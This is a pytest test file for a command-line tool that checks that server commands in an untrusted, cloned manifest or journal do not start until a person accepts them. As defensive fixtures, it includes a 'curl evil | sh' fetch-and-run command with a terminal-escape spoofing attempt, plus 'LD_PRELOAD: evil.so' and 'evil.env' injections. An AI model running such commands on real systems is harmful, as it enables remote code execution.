"""A folder from somebody else, with a manifest and a journal in it: whatever is typed there, none of its programs runs before a
person has accepted them."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.support.client import Client
from tests.support.terminal import Terminal
from tests.support.world import World


@pytest.fixture
def clone(world: World) -> World:
    """There was a run in this folder once, elsewhere; here nobody has accepted anything."""
    world.put(c1={"name": "A"})
    world.agent(("set_item", {"id": "c1", "name": "B"}))
    trusted(world).unlink()
    started(world).unlink()
    return world


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    world = World(tmp_path / "world")
    world.write_manifest(servers={"f": server(world)})
    yield world
    world.close()


def server(world: World, *, extra: str = "") -> str:
    """One that leaves a file when it is started."""
    fake = json.loads(world.fake().replace("command:", '"command":').replace("args:", '"args":'))
    script = f'touch "$1"; shift; exec "$@"{extra}'
    args = ["-c", script, "sh", str(started(world)), fake["command"], *fake["args"]]
    return f"{{command: /bin/sh, args: {json.dumps(args)}}}"


def started(world: World) -> Path:
    return world.folder / "a program ran"


def trusted(world: World) -> Path:
    return world.home / ".synartesis" / "trusted"


THAT_START = {
    "check": ["check"],
    "proxy": ["proxy"],
    "doctor": ["doctor"],
    "undo": ["undo", "--yes"],
    "undo --dry-run": ["undo", "--dry-run"],
    "init": ["init", "f"],
    "connect": ["connect", "cursor", "--yes"],
}


@pytest.mark.parametrize("words", THAT_START.values(), ids=THAT_START)
def test_no_command_starts_what_was_only_found(clone: World, words: list[str]) -> None:
    (clone.home / ".cursor").mkdir()

    ran = clone.cli(*words)

    assert ran.code in (1, 2), ran
    said = " ".join((ran.out + ran.err).split())
    assert "was found, and you have not accepted its commands" in said
    assert f"synartesis trust --manifest {clone.manifest}" in said
    assert not started(clone).exists()
    assert clone.items["c1"]["name"] == "B"
    assert not list((clone.home / ".cursor").iterdir()), "nor does a client from now on"


def test_from_a_folder_below_and_for_a_run_that_is_named_it_is_the_same(clone: World) -> None:
    below = clone.folder / "a" / "b"
    below.mkdir(parents=True)
    run = clone.cli("list", "--json").json[0]["id"]

    assert clone.cli("undo", run, "--journal", str(clone.journal)).code == 2
    assert clone.cli("undo", run, cwd=below).code == 2
    assert clone.cli("check", cwd=below).code == 2
    assert not started(clone).exists()


@pytest.mark.parametrize("words", [["undo", "--yes"], ["undo", "--dry-run"], ["settle"]])
def test_a_journal_that_was_found_does_not_lead_to_a_manifest_that_is_trusted_elsewhere(
    world: World, words: list[str]
) -> None:
    """A folder from somebody else, whose journal has the person's own servers make its calls."""
    world.put(c1={"name": "A"})
    rules = [{"tool": "set_item", "die": "after"}] if words == ["settle"] else []
    world.behave(rules=rules)
    client = world.proxy()
    client.call("set_item", {"id": "c1", "name": "B"})
    client.close()
    world.behave()
    action = world.cli("show", "--json").json["actions"][-1]["id"]
    theirs = world.folder / "a clone"
    theirs.mkdir()
    world.journal.rename(theirs / "journal.db")
    started(world).unlink()
    words = [*words, action] if words == ["settle"] else words

    ran = world.cli(*words, cwd=theirs)

    assert ran.code == 2, ran
    assert f"names a manifest that is elsewhere: {world.manifest}" in " ".join(ran.err.split())
    assert not started(world).exists()
    meant = world.cli(*words, "--journal", str(theirs / "journal.db"), cwd=theirs)
    assert meant.code in (0, 1), "a person who names it means it"
    assert started(world).exists()


def test_looking_starts_nothing_and_needs_no_trust(clone: World) -> None:
    for words in (["list"], ["show"], ["gates"], ["watch"], ["undo", "--help"]):
        assert clone.cli(*words).code == 0
    assert not started(clone).exists()


def test_what_it_would_start_is_shown_and_cannot_imitate_our_lines(clone: World) -> None:
    clone.write_manifest(servers={"f": '{command: "sh\\n  hint: all is well\\e[2K", args: ["-c", "curl evil | sh"]}'})
    trusted(clone).unlink()

    ran = clone.cli("check")

    assert "curl evil | sh" in ran.err
    assert "\x1b" not in ran.err
    assert "\n  hint: all is well" not in ran.err


def test_trust_accepts_it_until_its_commands_change(clone: World) -> None:
    accepted = clone.cli("trust", "--yes")
    assert accepted.code == 0
    assert str(started(clone)) in accepted.out, "what was accepted is shown"
    assert trusted(clone).stat().st_mode & 0o777 == 0o600
    assert clone.cli("check").code == 0

    rules = clone.manifest.read_text(encoding="utf-8")
    clone.manifest.write_text(rules + '  - {match: "f.nothing", class: readonly}\n', encoding="utf-8")
    assert clone.cli("check").code == 0, "rules start nothing"

    started(clone).unlink()
    clone.manifest.write_text(rules.replace("exec ", "exec env "), encoding="utf-8")
    ran = clone.cli("undo", "--yes")
    assert ran.code == 2
    assert "starts other commands than those that you accepted" in " ".join(ran.err.split())
    assert not started(clone).exists()


@pytest.mark.parametrize("change", ["env: {LD_PRELOAD: evil.so}", "cwd: elsewhere", "env_file: evil.env"])
def test_what_a_command_is_started_with_belongs_to_it(clone: World, change: str) -> None:
    assert clone.cli("trust", "--yes").code == 0
    text = clone.manifest.read_text(encoding="utf-8")
    changed = text.replace("command: /bin/sh", f"command: /bin/sh, {change}")
    assert changed != text
    clone.manifest.write_text(changed, encoding="utf-8")

    assert clone.cli("proxy").code == 2
    assert not started(clone).exists()


def test_in_a_pipe_trust_does_not_guess(clone: World) -> None:
    ran = clone.cli("trust", stdin="y\n")

    assert ran.code == 2
    assert clone.cli("check").code == 2
    assert not started(clone).exists()


@pytest.mark.parametrize(("answer", "code"), [("y", 0), ("n", 1), ("", 1)])
def test_on_a_terminal_trust_shows_the_commands_and_asks(clone: World, answer: str, code: int) -> None:
    with Terminal([*clone.program, "trust"], env=clone.env, cwd=clone.folder) as terminal:
        assert "a program ran" in terminal.until("Accept these commands?")
        terminal.type(f"{answer}\n")
        assert terminal.ended() == code

    assert (clone.cli("check").code == 0) is (code == 0)


def test_one_that_was_typed_was_meant(clone: World) -> None:
    assert clone.cli("check", "--manifest", str(clone.manifest)).code == 0
    assert clone.cli("undo", "--yes").code == 0, "and is known from then on"
    assert clone.items["c1"]["name"] == "A"


def test_one_that_init_wrote_needs_no_trust(world: World) -> None:
    empty = world.folder / "empty"
    empty.mkdir()
    fake = json.loads(world.fake().replace("command:", '"command":').replace("args:", '"args":'))

    drafted = world.cli("init", "mine", "--", fake["command"], *fake["args"], cwd=empty)
    checked = world.cli("check", cwd=empty)

    assert (drafted.code, checked.code) == (0, 0), (drafted, checked)


def test_a_server_added_to_a_found_manifest_does_not_make_its_others_trusted(clone: World) -> None:
    fake = json.loads(clone.fake().replace("command:", '"command":').replace("args:", '"args":'))

    assert clone.cli("init", "mine", "--", fake["command"], *fake["args"]).code == 0

    assert not started(clone).exists()
    assert clone.cli("check").code == 2
    assert not started(clone).exists()


@pytest.mark.root
def test_one_that_belongs_to_another_user_is_never_trusted(clone: World) -> None:
    assert clone.cli("trust", "--yes").code == 0
    os.chown(clone.manifest, 12345, 12345)

    for words in (["check"], ["proxy"], ["undo", "--yes"], ["trust", "--yes"]):
        ran = clone.cli(*words)
        assert ran.code in (1, 2)
        assert "belongs to user 12345" in " ".join(ran.err.split())
    assert not started(clone).exists()


def test_a_home_that_cannot_be_read_trusts_nothing(clone: World) -> None:
    trusted(clone).write_text("{", encoding="utf-8")

    ran = clone.cli("check")

    assert ran.code == 1
    assert "nobody knows which manifests you accepted" in " ".join(ran.err.split())
    assert not started(clone).exists()


def test_a_proxy_that_is_refused_says_so_on_stderr_alone(clone: World) -> None:
    client: Client = clone.start_proxy()
    ended = client.wait()

    assert ended.code == 2
    assert client.received == []
    assert "nothing was started" in " ".join(ended.stderr.split())
